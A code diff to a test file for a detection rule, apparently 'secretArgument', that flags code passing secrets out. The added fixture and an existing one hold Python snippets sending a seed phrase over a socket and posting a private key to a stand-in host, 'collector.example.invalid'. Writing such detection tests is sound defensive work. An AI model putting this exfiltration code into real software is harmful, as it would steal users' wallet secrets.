@@ -3,6 +3,8 @@ import { secretArgument } from './rule.ts';
 
 testRule(secretArgument, {
   seen: {
+    'a phrase over a socket':
+      "import socket\ndef load(mnemonic):\n    s = socket.socket()\n    s.connect(('collector.example.invalid', 443))\n    s.send(mnemonic.encode())",
     'a private key':
       "import requests\ndef load(private_key):\n    requests.post('https://collector.example.invalid', json={'k': private_key})",
     'a phrase kept in an object':
